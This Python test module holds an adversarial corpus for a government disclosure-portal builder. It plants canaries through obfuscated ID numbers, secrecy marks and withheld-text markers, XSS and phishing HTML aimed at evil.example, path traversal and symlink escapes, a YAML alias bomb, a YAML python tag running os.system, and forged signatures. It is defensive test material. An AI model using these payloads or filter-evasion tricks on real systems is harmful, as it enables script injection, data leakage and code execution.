"""The adversarial corpus: each case plants a canary in a portal the way a careless or hostile
person would, and names the outcome: `hidden` (the build goes on, the canary reaches no byte of
the site) or `fail` (the build stops, and the canary reaches no byte either)."""
from __future__ import annotations

import os
from dataclasses import dataclass
from typing import Callable

ID = "11010519491231002X"  # valid check digit
PARTIAL = {"attribute": "部分公开", "basis": "条例第十五条 个人隐私"}


@dataclass(frozen=True)
class Case:
    name: str
    outcome: str  # "hidden" | "fail"
    plant: Callable  # (portal, folder, canary) -> None


CASES: list[Case] = []


def case(name: str, outcome: str = "hidden"):
    def register(func):
        CASES.append(Case(name, outcome, func))
        return func

    return register


def signed(p, rel, body, **meta):
    """Writes the item and signs every stage; an item gongkai sign refuses to sign stays unsigned."""
    from gongkai.errors import GongkaiError

    p.item(rel, body, **meta)
    try:
        p.sign(rel)
    except GongkaiError:
        pass


# ---------------------------------------------------------------- 居民身份证号 (build fails)


@case("id-plain-in-body", "fail")
def _(p, d, c):
    signed(p, f"{d}/a.md", f"{c} 申请人身份证号{ID}")


@case("id-fullwidth-digits", "fail")
def _(p, d, c):
    signed(p, f"{d}/a.md", f"{c} 身份证号 １１０１０５１９４９１２３１００２Ｘ")


@case("id-with-spaces", "fail")
def _(p, d, c):
    signed(p, f"{d}/a.md", f"{c} 身份证号 110105 19491231 002X")


@case("id-with-hyphens", "fail")
def _(p, d, c):
    signed(p, f"{d}/a.md", f"{c} 身份证号 110105-19491231-002X")


@case("id-split-by-zero-width", "fail")
def _(p, d, c):
    signed(p, f"{d}/a.md", f"{c} 身份证号 1101051949\u200b1231002X")


@case("id-lowercase-x", "fail")
def _(p, d, c):
    signed(p, f"{d}/a.md", f"{c} 身份证号 {ID.lower()}")


@case("id-in-table", "fail")
def _(p, d, c):
    signed(p, f"{d}/a.md", f"{c}\n\n| 姓名 | 证件号 |\n|---|---|\n| 张三 | {ID} |\n")


@case("id-in-link-text", "fail")
def _(p, d, c):
    signed(p, f"{d}/a.md", f"{c} [{ID}](https://www.example.gov.cn/)")


@case("id-in-link-url", "fail")
def _(p, d, c):
    signed(p, f"{d}/a.md", f"{c} [查询](https://www.example.gov.cn/q?id={ID})")


@case("id-in-image-alt", "fail")
def _(p, d, c):
    signed(p, f"{d}/a.md", f"{c} ![{ID}](photo.png)")


@case("id-in-title", "fail")
def _(p, d, c):
    signed(p, f"{d}/a.md", c, title=f"关于{ID}的答复")


@case("id-in-summary", "fail")
def _(p, d, c):
    signed(p, f"{d}/a.md", c, summary=f"申请人{ID}")


@case("id-in-attachment-name", "fail")
def _(p, d, c):
    folder = p.root / "content" / d / "files"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"张三{ID}.pdf").write_bytes(c.encode())
    signed(p, f"{d}/a.md", c, attachments=[f"files/张三{ID}.pdf"])


@case("id-in-on-demand-title", "fail")
def _(p, d, c):
    signed(p, f"{d}/a.md", c, title=f"{ID}的档案", attribute="依申请公开", basis="条例第二十七条", published=None)


# ---------------------------------------------------------------- 密级 marks (build fails)


@case("secrecy-field", "fail")
def _(p, d, c):
    p.item(f"{d}/a.md", c, secrecy="秘密")


@case("secret-mark-in-body", "fail")
def _(p, d, c):
    p.item(f"{d}/a.md", f"{c} 秘密★1年")


@case("secret-mark-traditional", "fail")
def _(p, d, c):
    p.item(f"{d}/a.md", f"{c} 機密★")


@case("secret-mark-zero-width", "fail")
def _(p, d, c):
    p.item(f"{d}/a.md", f"{c} 绝\u200b密★")


@case("secret-mark-spaced", "fail")
def _(p, d, c):
    p.item(f"{d}/a.md", f"{c} 机 密 ★")


@case("secret-mark-in-title", "fail")
def _(p, d, c):
    p.item(f"{d}/a.md", c, title="秘密★ 关于某事的请示")


@case("secret-mark-in-summary", "fail")
def _(p, d, c):
    p.item(f"{d}/a.md", c, summary="机密★ 摘要")


@case("secret-mark-in-withheld-span", "fail")
def _(p, d, c):
    p.item(f"{d}/a.md", f"公开。【不公开】{c} 秘密★【/不公开】", **PARTIAL)


@case("secret-mark-in-不予公开-item", "fail")
def _(p, d, c):
    p.item(f"{d}/a.md", f"{c} 秘密★", attribute="不予公开", basis="条例第十四条", published=None)


# ---------------------------------------------------------------- attachments and stray files


def _outside(p, c):
    path = p.root / f"outside-{c}.txt"
    path.write_text(c, encoding="utf-8")
    return path


@case("attachment-dotdot")
def _(p, d, c):
    _outside(p, c)
    signed(p, f"{d}/a.md", "正文", attachments=[f"../../../outside-{c}.txt"])


@case("attachment-absolute-path")
def _(p, d, c):
    path = _outside(p, c)
    signed(p, f"{d}/a.md", "正文", attachments=[str(path)])


@case("attachment-symlink-file")
def _(p, d, c):
    path = _outside(p, c)
    (p.root / "content" / d).mkdir(parents=True, exist_ok=True)
    os.symlink(path, p.root / "content" / d / "link.pdf")
    signed(p, f"{d}/a.md", "正文", attachments=["link.pdf"])


@case("attachment-symlinked-directory")
def _(p, d, c):
    outside = p.root / f"outdir-{c}"
    outside.mkdir()
    (outside / "a.pdf").write_text(c, encoding="utf-8")
    (p.root / "content" / d).mkdir(parents=True, exist_ok=True)
    os.symlink(outside, p.root / "content" / d / "files")
    signed(p, f"{d}/a.md", "正文", attachments=["files/a.pdf"])


@case("attachment-case-folding")
def _(p, d, c):
    (p.root / "content" / d / "files").mkdir(parents=True, exist_ok=True)
    (p.root / "content" / d / "files" / "a.pdf").write_text(c, encoding="utf-8")
    signed(p, f"{d}/a.md", "正文", attachments=["files/A.PDF"])


@case("attachment-named-like-an-item")
def _(p, d, c):
    (p.root / "content" / d).mkdir(parents=True, exist_ok=True)
    (p.root / "content" / d / "draft.md").write_text(f"草稿 {c}\n", encoding="utf-8")
    signed(p, f"{d}/a.md", "正文", attachments=["draft.md"])


@case("attachment-backslash")
def _(p, d, c):
    (p.root / "content" / d / "files").mkdir(parents=True, exist_ok=True)
    (p.root / "content" / d / "files" / "a.pdf").write_text(c, encoding="utf-8")
    signed(p, f"{d}/a.md", "正文", attachments=["files\\a.pdf"])


@case("undeclared-file-beside-item")
def _(p, d, c):
    (p.root / "content" / d).mkdir(parents=True, exist_ok=True)
    (p.root / "content" / d / "名单.xlsx").write_text(c, encoding="utf-8")
    (p.root / "content" / d / "draft.docx").write_text(c, encoding="utf-8")
    signed(p, f"{d}/a.md", "正文")


@case("symlinked-markdown-item")
def _(p, d, c):
    path = p.root / f"outside-{c}.md"
    path.write_text(f"---\ntitle: x\n---\n{c}\n", encoding="utf-8")
    (p.root / "content" / d).mkdir(parents=True, exist_ok=True)
    os.symlink(path, p.root / "content" / d / "linked.md")


@case("item-in-reserved-directory")
def _(p, d, c):
    signed(p, f"xxgk/{d}.md", c)


# ---------------------------------------------------------------- raw HTML and inclusion


@case("raw-script-tag")
def _(p, d, c):
    signed(p, f"{d}/a.md", f"正文\n\n<script>alert('{c}')</script>\n")


@case("raw-iframe")
def _(p, d, c):
    signed(p, f"{d}/a.md", f'正文\n\n<iframe src="https://evil.example/{c}"></iframe>\n')


@case("javascript-link")
def _(p, d, c):
    signed(p, f"{d}/a.md", f'正文 <a href="javascript:{c}()">点我</a> [再点](javascript:{c})')


@case("event-attribute")
def _(p, d, c):
    signed(p, f"{d}/a.md", f'正文 <img src="x.png" onerror="{c}()">')


@case("style-tag-exfiltration")
def _(p, d, c):
    signed(p, f"{d}/a.md", f"正文\n\n<style>body{{background:url(https://evil.example/{c})}}</style>\n")


@case("object-embed")
def _(p, d, c):
    signed(p, f"{d}/a.md", f'正文 <object data="{c}.swf"></object><embed src="{c}.swf">')


@case("form-phishing")
def _(p, d, c):
    signed(p, f"{d}/a.md", f'正文 <form action="https://evil.example/"><input name="{c}"></form>')


@case("html-comment-internal-note")
def _(p, d, c):
    signed(p, f"{d}/a.md", f"正文 <!-- 内部意见:{c} -->")


@case("snippet-inclusion")
def _(p, d, c):
    (p.root / "secret.txt").write_text(c, encoding="utf-8")
    (p.root / "content" / d).mkdir(parents=True, exist_ok=True)
    (p.root / "content" / d / "secret.txt").write_text(c, encoding="utf-8")
    signed(p, f"{d}/a.md", '正文\n\n--8<-- "secret.txt"\n\n--8<-- "../../secret.txt"\n')


# ---------------------------------------------------------------- YAML tricks


@case("yaml-duplicate-key")
def _(p, d, c):
    path = p.item(f"{d}/a.md", "正文")
    p.sign(f"{d}/a.md")
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("---\n", f"---\ntitle: \"{c}\"\n", 1), encoding="utf-8")


@case("yaml-anchor-and-alias")
def _(p, d, c):
    path = p.item(f"{d}/a.md", "正文", title=None)
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("---\n", f"---\nsummary: &s \"{c}\"\ntitle: *s\n", 1), encoding="utf-8")


@case("yaml-alias-bomb")
def _(p, d, c):
    bomb = "a: &a [\"{0}\",\"{0}\"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n".format(c)
    (p.root / "content" / d).mkdir(parents=True, exist_ok=True)
    (p.root / "content" / d / "bomb.md").write_text("---\n" + bomb + "---\n正文\n", encoding="utf-8")


@case("yaml-python-tag")
def _(p, d, c):
    (p.root / "content" / d).mkdir(parents=True, exist_ok=True)
    (p.root / "content" / d / "tag.md").write_text(f"---\ntitle: !!python/object/apply:os.system [\"echo {c} > /tmp/{c}\"]\n---\n{c}\n", encoding="utf-8")


@case("yaml-merge-key")
def _(p, d, c):
    (p.root / "content" / d).mkdir(parents=True, exist_ok=True)
    (p.root / "content" / d / "merge.md").write_text(f"---\n<<: {{title: \"{c}\"}}\n---\n{c}\n", encoding="utf-8")


@case("signature-copied-from-another-item")
def _(p, d, c):
    signed(p, f"{d}/a.md", "甲文")
    b = p.item(f"{d}/b.md", f"乙文 {c}")
    a = (p.root / "content" / d / "a.md").read_text(encoding="utf-8")
    reviews = a[a.index("reviews:"):a.rindex("---")]
    head, body = b.read_text(encoding="utf-8").split("\n---\n", 1)
    b.write_text(head + "\n" + reviews + "---\n" + body, encoding="utf-8")


@case("signature-relabelled-stage")
def _(p, d, c):
    path = p.item(f"{d}/a.md", f"正文 {c}")
    p.sign(f"{d}/a.md", signer={"初审": "multi", "复审": "fu", "终审": "zhong"})
    text = path.read_text(encoding="utf-8")
    # multi may sign 复审 too, but this signature says 初审: relabelling it must not count
    path.write_text(text.replace('stage: "复审"\n    by: "fu"', 'stage: "复审"\n    by: "multi"', 1), encoding="utf-8")


@case("tampered-after-signing")
def _(p, d, c):
    path = p.item(f"{d}/a.md", "原文")
    p.sign(f"{d}/a.md")
    path.write_text(path.read_text(encoding="utf-8").replace("原文", f"原文 {c}"), encoding="utf-8")


@case("attachment-swapped-after-signing")
def _(p, d, c):
    (p.root / "content" / d).mkdir(parents=True, exist_ok=True)
    (p.root / "content" / d / "a.pdf").write_text("原件", encoding="utf-8")
    signed(p, f"{d}/a.md", "正文", attachments=["a.pdf"])
    (p.root / "content" / d / "a.pdf").write_text(c, encoding="utf-8")


# ---------------------------------------------------------------- withheld spans


@case("withheld-span-unclosed")
def _(p, d, c):
    signed(p, f"{d}/a.md", f"公开。【不公开】{c}", **PARTIAL)


@case("withheld-span-ascii-brackets")
def _(p, d, c):
    signed(p, f"{d}/a.md", f"公开。[不公开]{c}[/不公开]", **PARTIAL)


@case("withheld-span-zero-width-in-marker")
def _(p, d, c):
    signed(p, f"{d}/a.md", f"公开。【不\u200b公开】{c}【/不公开】", **PARTIAL)


@case("withheld-span-in-主动公开")
def _(p, d, c):
    signed(p, f"{d}/a.md", f"公开。【不公开】{c}【/不公开】")


@case("withheld-span-multiline-table")
def _(p, d, c):
    signed(p, f"{d}/a.md", f"公开。\n\n【不公开】\n| 姓名 | 住址 |\n|---|---|\n| 张三 | {c} |\n【/不公开】\n\n结尾。", **PARTIAL)


@case("withheld-span-first-paragraph-summary")
def _(p, d, c):
    signed(p, f"{d}/a.md", f"【不公开】{c}【/不公开】开头就是不公开内容。\n\n第二段。", **PARTIAL)


# ---------------------------------------------------------------- states that publish nothing


@case("future-publication-date")
def _(p, d, c):
    signed(p, f"{d}/a.md", c, title=f"定时{c}", published="2099-01-01")


@case("不予公开-item")
def _(p, d, c):
    signed(p, f"{d}/a.md", c, title=f"不予{c}", attribute="不予公开", basis="条例第十四条", published=None)


@case("依申请公开-body-and-attachment")
def _(p, d, c):
    (p.root / "content" / d).mkdir(parents=True, exist_ok=True)
    (p.root / "content" / d / "a.pdf").write_text(c, encoding="utf-8")
    signed(p, f"{d}/a.md", c, attribute="依申请公开", basis="条例第二十七条", published=None, attachments=["a.pdf"])


@case("pending-review")
def _(p, d, c):
    p.item(f"{d}/a.md", c, title=f"待审{c}")
    p.sign(f"{d}/a.md", stages=["初审", "复审", "终审"])


@case("gbk-encoded-file")
def _(p, d, c):
    (p.root / "content" / d).mkdir(parents=True, exist_ok=True)
    (p.root / "content" / d / "gbk.md").write_bytes(f"---\ntitle: 通知\n---\n{c} 正文\n".encode("gbk"))


# ---------------------------------------------------------------- Gate v2: what a reader sees
# Each of these showed a reader an ID number, a mark or withheld text while the checks on the
# source did not see it (issue "Gate v2"). The output check fails the build on every one.

ID_NUMERIC = "440304199003074510"  # valid check digit 0: an ID number that is an integer too
OTHER_DIGITS = {
    "arabic-indic": 0x0660,
    "devanagari": 0x0966,
    "math-bold": 0x1D7CE,
}


def _digits(base: int, text: str) -> str:
    return "".join(chr(base + int(c)) if c.isdigit() else c for c in text)


for _name, _body in {
    "id-split-by-emphasis": "110105**1949**1231002X",
    "id-split-by-inline-tag": "1101051949<span>1231</span>002X",
    "id-split-by-comment-holding-gt": "1101051949<!-- a > b -->1231002X",
    "id-written-as-entities": "".join(f"&#{ord(c)};" for c in ID),
    "id-written-as-hex-entities": "".join(f"&#x{ord(c):x};" for c in ID),
    "id-split-by-soft-line-break": "110105194912\n31002X",
    "id-split-by-hard-line-break": "110105194912  \n31002X",
    "id-split-by-br-tag": "110105194912<br>31002X",
    "id-with-em-dashes": "110105—19491231—002X",
    "id-with-minus-signs": "110105−19491231−002X",
    "id-glued-to-latin-letters": f"ABC{ID}DEF",
    "id-glued-to-cyrillic-letters": f"Жд{ID}Жд",
    "id-with-cyrillic-x": ID[:-1] + "Х",
    "id-with-multiplication-x": ID[:-1] + "×",
    "id-with-word-joiners": "\u2060".join(ID),
    "id-with-bidi-controls": "\u202e" + ID + "\u202c",
    "id-glued-to-longer-number": "9" + ID_NUMERIC + "9",
    "id-in-code-span": f"`{ID}`",
    "id-in-heading": f"## 申请人 {ID}",
    "id-in-html-attribute": f'<span title="{ID}">鼠标悬停可见</span>',
    "id-in-attr-list": f"段落文字\n{{: title=\"{ID}\" }}",
}.items():
    def _plant(p, d, c, _body=_body):
        signed(p, f"{d}/a.md", f"{c} 申请人 {_body}")

    case(_name, "fail")(_plant)

for _script, _base in OTHER_DIGITS.items():
    def _plant(p, d, c, _base=_base):
        signed(p, f"{d}/a.md", f"{c} 证件号 {_digits(_base, ID)}")

    case(f"id-in-{_script}-digits", "fail")(_plant)

for _field in ("doc_no", "topic", "genre"):
    def _plant(p, d, c, _field=_field):
        signed(p, f"{d}/a.md", c, **{_field: f"第{ID}号"})

    case(f"id-in-field-{_field}", "fail")(_plant)


@case("id-in-field-basis", "fail")
def _(p, d, c):
    signed(p, f"{d}/a.md", f"公开。【不公开】{c}【/不公开】", attribute="部分公开", basis=f"条例第十五条 第{ID}号")


@case("id-in-source-name", "fail")
def _(p, d, c):
    signed(p, f"{d}/a.md", c, source={"name": f"来源{ID}", "url": "https://www.example.gov.cn/", "date": "2025-03-01"})


@case("id-as-report-figure")  # numbers over 15 digits are refused: the item is not published
def _(p, d, c):
    signed(p, f"{d}/a.md", f"一、总体情况\n\n{c}", category="年度报告", title="测试县政府办2025年政府信息公开工作年度报告", report={"year": 2025, "licensing": int(ID_NUMERIC)})


@case("id-in-file-name", "fail")
def _(p, d, c):
    signed(p, f"{d}/{ID}.md", c)


@case("id-in-text-attachment", "fail")
def _(p, d, c):
    (p.root / "content" / d).mkdir(parents=True, exist_ok=True)
    (p.root / "content" / d / "名单.txt").write_text(f"{c}\n张三 {ID}\n", encoding="utf-8")
    signed(p, f"{d}/a.md", "正文", attachments=["名单.txt"])


@case("id-in-csv-attachment-gbk", "fail")
def _(p, d, c):
    (p.root / "content" / d).mkdir(parents=True, exist_ok=True)
    (p.root / "content" / d / "名单.csv").write_bytes(f"{c},姓名,证件号\n1,张三,{ID}\n".encode("gb18030"))
    signed(p, f"{d}/a.md", "正文", attachments=["名单.csv"])


@case("id-in-json-attachment-escaped", "fail")
def _(p, d, c):
    (p.root / "content" / d).mkdir(parents=True, exist_ok=True)
    escaped = "".join(f"\\u{ord(ch):04x}" for ch in ID)
    (p.root / "content" / d / "data.json").write_text(f'{{"c": "{c}", "id": "{escaped}"}}', encoding="utf-8")
    signed(p, f"{d}/a.md", "正文", attachments=["data.json"])


for _name, _mark in {
    "mark-with-white-star": "秘密☆",
    "mark-with-outlined-star": "机密✩",
    "mark-with-asterisk": "秘密*一年",
    "mark-with-full-width-asterisk": "绝密＊",
    "mark-split-by-emphasis": "机**密**★",
    "mark-star-as-entity": "秘密&#9733;",
    "mark-star-as-named-entity": "秘密&starf;",
    "mark-split-by-comment": "秘<!-- x -->密★",
    "mark-split-by-tag": "机<b>密</b>★",
    "mark-japanese-variant": "絶密★",
    "mark-variant-祕": "祕密★",
    "mark-with-colon": "秘密：★",
}.items():
    def _plant(p, d, c, _mark=_mark):
        p.item(f"{d}/a.md", f"{c} {_mark} 文件")

    case(_name, "fail")(_plant)

for _field in ("doc_no", "topic", "genre"):
    def _plant(p, d, c, _field=_field):
        p.item(f"{d}/a.md", c, **{_field: "秘密★5年"})

    case(f"mark-in-field-{_field}", "fail")(_plant)


@case("mark-in-text-attachment", "fail")
def _(p, d, c):
    (p.root / "content" / d).mkdir(parents=True, exist_ok=True)
    (p.root / "content" / d / "附件.txt").write_text(f"{c}\n机密★10年\n", encoding="utf-8")
    signed(p, f"{d}/a.md", "正文", attachments=["附件.txt"])


# Disclosure markers anywhere but the body of a 部分公开 item: the item is refused, nothing leaks.
for _name, (_body, _meta) in {
    "marker-traditional-開": ("公开。【不公開】{c}【/不公開】", PARTIAL),
    "marker-不予公开": ("公开。【不予公开】{c}【/不予公开】", PARTIAL),
    "marker-broken-by-comment": ("公开。【不<!-- x -->公开】{c}【/不公开】", PARTIAL),
    "marker-broken-by-entity": ("公开。【不&#20844;开】{c}【/不公开】", PARTIAL),
    "marker-broken-by-emphasis": ("公开。【不**公**开】{c}【/不公开】", PARTIAL),
    "marker-tortoise-brackets": ("公开。〔不公开〕{c}〔/不公开〕", PARTIAL),
    "marker-round-brackets": ("公开。（不公开）{c}（/不公开）", PARTIAL),
    "marker-corner-brackets": ("公开。「不公开」{c}「/不公开」", PARTIAL),
    "marker-full-width-slash": ("公开。【不公开】{c}【／不公开】", PARTIAL),
    "marker-in-依申请公开-body": ("【不公开】{c}【/不公开】", {"attribute": "依申请公开", "basis": "条例第二十七条", "published": None}),
}.items():
    def _plant(p, d, c, _body=_body, _meta=_meta):
        signed(p, f"{d}/a.md", _body.format(c=c), **_meta)

    case(_name)(_plant)

for _field in ("title", "summary", "doc_no", "topic"):
    def _plant(p, d, c, _field=_field):
        signed(p, f"{d}/a.md", "公开。【不公开】内部【/不公开】", **PARTIAL, **{_field: f"标题【不公开】{c}【/不公开】"})

    case(f"marker-in-field-{_field}")(_plant)


@case("marker-near-miss-in-title-of-主动公开")
def _(p, d, c):
    signed(p, f"{d}/a.md", "正文", title=f"通知[不公开]{c}[/不公开]")


@case("withheld-span-copied-into-attachment", "fail")
def _(p, d, c):
    (p.root / "content" / d).mkdir(parents=True, exist_ok=True)
    (p.root / "content" / d / "原文.txt").write_text(f"公开。张三家住幸福路{c}号。\n", encoding="utf-8")
    signed(p, f"{d}/a.md", f"公开。【不公开】张三家住幸福路{c}号。【/不公开】", **PARTIAL, attachments=["原文.txt"])


@case("withheld-span-inside-emphasis")
def _(p, d, c):
    signed(p, f"{d}/a.md", f"公开。**【不公开】{c}【/不公开】**", **PARTIAL)


@case("withheld-span-inside-html-attribute")
def _(p, d, c):
    signed(p, f"{d}/a.md", f'公开。<span title="【不公开】{c}【/不公开】">悬停</span>', **PARTIAL)


@case("withheld-span-holding-link-definition")
def _(p, d, c):
    signed(p, f"{d}/a.md", f"见[附件][r]。\n\n【不公开】\n[r]: https://www.example.gov.cn/{c}\n【/不公开】\n", **PARTIAL)


@case("pending-item-title-with-markup")
def _(p, d, c):
    p.item(f"{d}/a.md", f"**{c}**", title=f"待审<b>{c}</b>")


@case("comment-holding-gt-in-summary-paragraph")
def _(p, d, c):
    signed(p, f"{d}/a.md", f"开头<!-- 内部意见 a > b {c} -->正文第一段。\n\n第二段。")



# ---------------------------------------------------------------- office and PDF attachments


def _docx(path, paragraph: str = "", cell: str = "", footer: str = "") -> None:
    import docx

    document = docx.Document()
    document.add_paragraph(paragraph or "正文")
    if cell:
        document.add_table(rows=1, cols=2).rows[0].cells[1].text = cell
    if footer:
        document.sections[0].footer.paragraphs[0].text = footer
    document.save(path)


def _attached(p, d, name, write, **meta):
    folder = p.root / "content" / d
    folder.mkdir(parents=True, exist_ok=True)
    write(folder / name)
    signed(p, f"{d}/a.md", "正文。", attachments=[name], **meta)


@case("id-in-docx-table-cell", "fail")
def _(p, d, c):
    _attached(p, d, "名单.docx", lambda path: _docx(path, c, cell=ID))


@case("mark-in-docx-footer", "fail")
def _(p, d, c):
    _attached(p, d, "文件.docx", lambda path: _docx(path, c, footer="机密★5年"))


@case("id-in-xlsx-cell", "fail")
def _(p, d, c):
    def write(path):
        from openpyxl import Workbook

        book = Workbook()
        book.active["A1"], book.active["C9"] = c, ID
        book.save(path)

    _attached(p, d, "名单.xlsx", write)


@case("id-in-pdf-page", "fail")
def _(p, d, c):
    from tests.kit import make_pdf

    _attached(p, d, "公告.pdf", lambda path: path.write_bytes(make_pdf([f"{c} {ID}"], compress=True)))


@case("marker-in-docx-attachment")
def _(p, d, c):
    _attached(p, d, "原文.docx", lambda path: _docx(path, f"公开。【不公开】{c}【/不公开】"))


@case("withheld-span-in-pdf-attachment", "fail")
def _(p, d, c):
    from tests.kit import make_pdf

    folder = p.root / "content" / d
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "原文.pdf").write_bytes(make_pdf([f"Zhang San lives at No.{c} Xingfu Road"]))
    signed(p, f"{d}/a.md", f"公开。【不公开】Zhang San lives at No.{c} Xingfu Road【/不公开】", **PARTIAL, attachments=["原文.pdf"])
